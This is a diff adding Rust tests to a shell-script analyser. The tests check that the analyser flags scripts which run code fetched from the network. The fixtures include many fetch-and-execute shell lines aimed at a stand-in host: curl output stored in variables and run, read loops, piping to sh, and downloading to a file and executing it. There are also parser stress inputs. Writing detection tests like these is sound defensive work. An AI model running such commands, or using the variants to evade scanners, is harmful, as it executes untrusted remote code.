@@ -31,6 +31,31 @@ fn spellings_become_plain() {
 }
 
 #[test]
+fn output_that_a_variable_holds_is_followed() {
+    for text in [
+        "x=$(curl -s http://x.example/a)\n$x",
+        "for x in $(curl -s http://x.example/a); do $x; done",
+        "curl -s http://x.example/a | while read -r x; do $x; done",
+        "while read -r x; do $x; done < <(curl -s http://x.example/a)",
+        "IFS= read -rd '' x < <(curl -s http://x.example/a)\n$x",
+        "mapfile -t x < <(curl -s http://x.example/a)\n\"${x[@]}\"",
+        "get() {\n  curl -s \"$1\"\n}\nx=\"$(get http://x.example/a)\"\n$x",
+        "function get { curl -s \"$@\"; }\nx=$(get http://x.example/a)\n$x",
+    ] {
+        let found = lists(text);
+        let last = |list: &String| ["", "do "].iter().any(|word| list.split(" ; ").any(|part| part.starts_with(&format!("{word}$(curl -s http://x.example/a"))));
+        assert!(found.iter().any(last), "{text}: {found:?}");
+    }
+    for text in ["get() { curl -s \"$1\"; }\nget http://x.example/a | sh", "r() { \"$@\"; }\nr curl -s http://x.example/a | sh"] {
+        assert!(lists(text).iter().any(|list| list == "curl -s http://x.example/a | sh"), "{text}: {:?}", lists(text));
+    }
+    for text in ["get() { curl -s -o \"$2\" \"$1\"; }\nget http://x.example/a b\nsh b", "curl -s http://x.example/a | tee b\nsh b"] {
+        let reading = parse(&FORMAT, "x.sh", text.as_bytes(), false);
+        assert!(reading.facts.iter().any(|fact| fact.subject() == "shell.runs-fetched"), "{text}");
+    }
+}
+
+#[test]
 fn code_for_another_interpreter_is_a_child() {
     let reading = parse(&FORMAT, "x.sh", b"python3 -c 'import os'\npython - <<E\nimport sys\nE\n", false);
     let names: Vec<_> = reading.children.iter().map(|child| String::from_utf8_lossy(&child.name)).collect();
@@ -40,7 +65,7 @@ fn code_for_another_interpreter_is_a_child() {
 #[test]
 fn hostile_and_cut_scripts_end() {
     for text in
-        ["$(".repeat(50_000), "'".repeat(99_999), "<<A\n".repeat(10_000), "bash -c \"".repeat(5_000), "`".repeat(9_999)]
+        ["$(".repeat(50_000), "'".repeat(99_999), "<<A\n".repeat(10_000), "bash -c \"".repeat(5_000), "`".repeat(9_999), "f() { f a; f b; }\nf\n".repeat(3_000), "while read x; do ".repeat(9_000)]
     {
         parse(&FORMAT, "x.sh", text.as_bytes(), false);
     }
